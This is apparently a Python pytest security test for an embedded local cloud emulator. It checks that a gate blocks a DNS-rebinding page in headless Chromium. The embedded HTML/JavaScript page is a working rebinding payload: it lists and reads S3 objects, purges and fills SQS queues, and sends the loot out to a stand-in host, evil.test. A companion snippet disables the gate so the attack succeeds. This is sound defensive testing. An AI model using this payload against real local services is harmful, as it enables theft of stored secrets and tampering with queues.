"""The page of a rebound name in a real browser: a page that stays open while its name moves.

Run with TEST_CHROMIUM naming a Chromium: `TEST_CHROMIUM=/usr/bin/chromium pytest tests/security`.
The page is served at the cloud's port before the cloud is, as by an attacker's server; then its
name leads to the cloud. With the gate taken away the same page gets in, so that the test can tell.
"""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest

from labapp.cloud.embedded import launcher
from labapp.cloud.embedded.launcher import Running
from tests.cloud.embedded.embedded_kit import ROOT, s3, sqs
from tests.security.local_clouds import BUCKET, KEY, QUEUE, SECRET
from tests.support.ports import free_port
from tests.support.waiting import until

CHROMIUM = os.environ.get("TEST_CHROMIUM", "")

pytestmark = pytest.mark.skipif(not CHROMIUM, reason="TEST_CHROMIUM names no browser")

ACCOUNT = "000000000000"

#: What the page does once its name leads to the cloud: an image puts a job in, scripts list, read
#: and purge another queue, a form posts; then it tells another server of its own what it got.
PAGE = """<!doctype html><title>kittens</title><iframe name="hidden"></iframe>
<form id="form" method="post" action="/" target="hidden">
<input name="Action" value="SendMessage"><input name="MessageBody" value="by form">
<input name="QueueUrl" value="http://127.0.0.1/ACCOUNT/QUEUE"></form><script>
const seen = {};
const look = async (name, path, more) => {
  try { const got = await fetch(path, more); seen[name] = got.status + " " + await got.text(); }
  catch (error) { seen[name] = String(error); }
};
const attack = async () => {
  try { await fetch("/_ministack/health"); } catch { return setTimeout(attack, 100); }
  const image = new Image();
  await new Promise(done => { image.onload = image.onerror = done;
    image.src = "/ACCOUNT/QUEUE?Action=SendMessage&MessageBody=by+image"; });
  await look("list", "/BUCKET?list-type=2");
  await look("read", "/BUCKET/KEY");
  await look("purge", "/ACCOUNT/purged?Action=PurgeQueue");
  await look("post", "/", {method: "POST", headers: {"x-amz-target": "AmazonSQS.ListQueues"}});
  const framed = new Promise(done => { document.querySelector("iframe").onload = done; });
  document.querySelector("form").submit();
  await framed;
  new Image().src = "http://evil.test:REPORT/?" + encodeURIComponent(JSON.stringify(seen));
};
setTimeout(attack, 100);
</script>"""

#: A cloud without its gate.
OPEN = """
import sys
from pathlib import Path
from labapp.cloud.embedded import gate, server
gate.is_loopback = lambda host: True
gate.Gate.headers = lambda self, scope: dict(scope["headers"])
gate.Gate.passing = lambda *_: gate.Passing(None, lambda body: None)
server.main(Path(sys.argv[1]), int(sys.argv[2]))
"""


class Attacker:
    """The attacker's servers: one for the page, at the cloud's port, one that hears of it."""

    def __init__(self) -> None:
        self.asked = threading.Event()
        self.told: list[dict[str, str]] = []
        self.port = free_port()
        self._reports = self._serve(0)
        page = PAGE.replace("ACCOUNT", ACCOUNT).replace("QUEUE", QUEUE).replace("BUCKET", BUCKET)
        self._page = page.replace("/KEY", f"/{KEY}").replace(
            "REPORT", str(self._reports.server_port)
        )
        self._pages = self._serve(self.port)

    def _serve(self, port: int) -> ThreadingHTTPServer:
        attacker = self

        class Serving(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                at_page = self.server is attacker._pages
                if at_page and self.path != "/":
                    self.close_connection = True  # no answer: the cloud is not there yet
                    return
                body = attacker._page.encode() if at_page else b""
                if not at_page and "?" in self.path:
                    attacker.told.append(json.loads(unquote(self.path.partition("?")[2])))
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.send_header("content-length", str(len(body)))
                self.send_header("connection", "close")
                self.end_headers()
                self.wfile.write(body)
                if at_page:
                    attacker.asked.set()

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        server = ThreadingHTTPServer(("127.0.0.1", port), Serving)
        threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
        return server

    def leave_the_port(self) -> None:
        """Let the name lead elsewhere from now on."""
        self._pages.shutdown()
        self._pages.server_close()

    def close(self) -> None:
        self._reports.shutdown()
        self._reports.server_close()


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    made = Attacker()
    yield made
    made.close()


@pytest.fixture
def browsing(tmp_path: Path, attacker: Attacker) -> Iterator[None]:
    """Have the page open in a browser for which its name is loopback's."""
    command = [
        *(CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run"),
        *("--host-resolver-rules=MAP evil.test 127.0.0.1", "--disable-dev-shm-usage"),
        *(f"--user-data-dir={tmp_path / 'browser'}", f"http://evil.test:{attacker.port}/"),
    ]
    quiet: Any = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    browser = subprocess.Popen(command, start_new_session=True, **quiet)
    try:
        assert attacker.asked.wait(60), "the browser did not open the page"
        yield
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(browser.pid, 9)
        browser.wait()


def filled(running: Running) -> Running:
    s3(running).create_bucket(Bucket=BUCKET)
    s3(running).put_object(Bucket=BUCKET, Key=KEY, Body=SECRET)
    sqs(running).create_queue(QueueName=QUEUE)
    url = sqs(running).create_queue(QueueName="purged")["QueueUrl"]
    sqs(running).send_message(QueueUrl=url, MessageBody="1,2")
    return running


def counted(running: Running, name: str) -> int:
    url = sqs(running).get_queue_url(QueueName=name)["QueueUrl"]
    wish: Any = ["ApproximateNumberOfMessages"]
    found = sqs(running).get_queue_attributes(QueueUrl=url, AttributeNames=wish)
    return int(found["Attributes"]["ApproximateNumberOfMessages"])


@pytest.mark.usefixtures("browsing")
@pytest.mark.parametrize("shared", [False, True])
def test_the_page_comes_to_nothing(attacker: Attacker, home: Path, shared: bool) -> None:
    filled(launcher.ensure(home, free_port()))
    launcher.stop(home)
    attacker.leave_the_port()
    running = launcher.ensure(home, attacker.port)
    assert running.port == attacker.port
    if shared:
        launcher.share(home)
    until(lambda: attacker.told, "the page to tell what it got")
    assert {name: told[:4] for name, told in attacker.told[0].items()} == dict.fromkeys(
        ("list", "read", "purge", "post"), "403 "
    )
    assert SECRET.decode() not in str(attacker.told)
    assert (counted(running, QUEUE), counted(running, "purged")) == (0, 1)


@pytest.mark.usefixtures("browsing")
def test_without_the_gate_the_same_page_gets_in(attacker: Attacker, home: Path) -> None:
    filled(launcher.ensure(home, free_port()))
    launcher.stop(home)
    attacker.leave_the_port()
    process = subprocess.Popen(
        [sys.executable, "-c", OPEN, str(home), str(attacker.port)],
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        stderr=subprocess.DEVNULL,
    )
    try:
        until(lambda: attacker.told, "the page to tell what it got")
        running = launcher.find(home)
        assert running
        assert KEY in attacker.told[0]["list"]
        assert SECRET.decode() in attacker.told[0]["read"]
        assert counted(running, QUEUE) == 2, "by the image, and by the form"
        assert counted(running, "purged") == 0
    finally:
        launcher.stop(home)
        process.wait(60)
